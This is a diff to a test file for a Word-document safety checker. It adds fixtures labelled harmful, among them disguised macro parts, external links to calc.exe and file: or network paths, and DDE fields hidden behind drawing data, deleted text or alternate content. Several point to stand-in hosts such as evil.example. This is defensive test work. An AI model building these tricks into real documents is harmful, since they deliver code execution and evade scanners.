@@ -44,6 +44,10 @@ const harmful: Record<string, Docx> = {
     parts: [["word/foto.bin", "geen ole"]],
   },
   "a macro part under another name, by its content": { parts: [["word/media/foto.png", program]] },
+  "a macro part under another name, stored in blocks": {
+    parts: [["word/media/foto.png", Uint8Array.from([...program, ...new Uint8Array(60_000)])]],
+    zip: { level: 0 },
+  },
   "a macro part under another name, escaped": { parts: [["word/vba%50roject.bin", "geen ole"]] },
   "macro data": { parts: [["word/vbaData.xml", "<a/>"]] },
   "a macroEnabled content type alone": { type: `${ms}.document.macroEnabled.main+xml` },
@@ -79,6 +83,9 @@ const harmful: Record<string, Docx> = {
   "something from elsewhere without a mode": { rels: rel("header", "//evil.example/x") },
   "something from a network path": { rels: rel("image", "\\\\evil\\share\\a.png") },
   "a link that starts a program": { rels: rel("hyperlink", "ms-msdt:/id", "External") },
+  "a link to a program on the disk": { rels: rel("hyperlink", "C:\\Windows\\calc.exe", "External") },
+  "a link to a program on a network": { rels: rel("hyperlink", "//evil/calc.exe", "External") },
+  "a link to a file by its scheme": { rels: rel("hyperlink", "file:///C:/Windows/calc.exe", "External") },
   "a link that is script": { rels: rel("hyperlink", "javascript:alert(1)", "External") },
   "a template from the internet": {
     rels: rel("attachedTemplate", "https://evil.example/a.dotm", "External"),
@@ -100,6 +107,27 @@ const harmful: Record<string, Docx> = {
   "a field that brings in a file": { body: field(" INCLUDETEXT http://evil.example/a.docx ") },
   "a field inside a field": { body: nested(field("DDEAUTO x"), " IF 1=1 ") },
   "a field whose name is computed": { body: nested(field("QUOTE 68 68 69"), " c:\\cmd.exe ") },
+  "a field behind data of its own": {
+    body: field(
+      "</w:instrText></w:r><w:r><w:drawing><wp:posOffset>0</wp:posOffset></w:drawing><w:instrText>DDE x",
+    ),
+  },
+  "a field behind the data of a field": {
+    body: field("DDE x").replace('"begin"/>', '"begin"><w:fldData>AAAA</w:fldData></w:fldChar>'),
+  },
+  "a field behind deleted text": {
+    body: field("</w:instrText><w:delInstrText>x</w:delInstrText><w:instrText>DDE x"),
+  },
+  "a field that is the second of two ways": {
+    body: field(
+      "</w:instrText><mc:AlternateContent><mc:Choice><w:instrText>x</w:instrText></mc:Choice><mc:Fallback><w:instrText>DDE x</w:instrText></mc:Fallback></mc:AlternateContent><w:instrText>",
+    ),
+  },
+  "a field whose text ends in the first of two ways": {
+    body: field(
+      '</w:instrText><mc:AlternateContent><mc:Choice><w:fldChar w:fldCharType="separate"/></mc:Choice></mc:AlternateContent><w:instrText>DDE x',
+    ),
+  },
   "a field in a header": {
     types: override("/word/header1.xml", `${word}.header+xml`),
     parts: [["word/header1.xml", `<w:hdr xmlns:w="x">${field("DDEAUTO x")}</w:hdr>`]],
@@ -130,6 +158,7 @@ const honest: Record<string, Docx> = {
       rel("hyperlink", "mailto:jan@voorbeeld.example", "External"),
       rel("hyperlink", "tel:+31612345678", "External"),
       rel("hyperlink", "#_Toc1", "External"),
+      rel("hyperlink", "www.voorbeeld.example/a", "External"),
     ].join(""),
   },
   "the template that Word's own documents name": {
@@ -245,6 +274,8 @@ test("a part that unpacks to more than a book is not read to its end, whatever s
 });
 
 test("an XML part with a document type or in an encoding that Word does not write is refused", async () => {
+  const twice = rel("image", "http://evil.example").replace("/>", ' x:Target="media/a.png"/>');
+  expect(await verdictOn({ rels: twice })).toBe("damaged");
   for (const xml of [
     '<!DOCTYPE a [<!ENTITY b "DDE">]><a/>',
     '<?xml version="1.0" encoding="utf-7"?><a/>',
